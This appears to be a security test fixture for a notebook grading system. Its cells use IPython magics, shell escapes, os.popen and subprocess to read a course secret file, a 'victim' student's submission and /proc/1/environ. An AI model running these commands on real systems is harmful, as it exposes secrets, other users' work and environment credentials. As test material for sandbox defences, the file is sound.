# %% first
%load @COURSE@/.course_secret

# %% first
%run @COURSE@/nbgrader_config.py

# %% first
%pycat @COURSE@/submitted/victim/ps1/note.txt

# %% first
!cat @COURSE@/.course_secret @COURSE@/submitted/victim/ps1/note.txt

# %% first
%%bash
cat @COURSE@/.course_secret
cat /proc/1/environ

# %% first
%%script python3
print(open("@COURSE@/.course_secret").read())

# %% first
%cd @COURSE@
%ls -la

# %% first
out = get_ipython().getoutput("cat @COURSE@/.course_secret")
print(out)
%sx cat @COURSE@/.course_secret

# %% first
import os
import subprocess

print(os.popen("cat @COURSE@/.course_secret").read())
print(subprocess.run(["/bin/sh", "-c", "ls / @COURSE@"], capture_output=True))
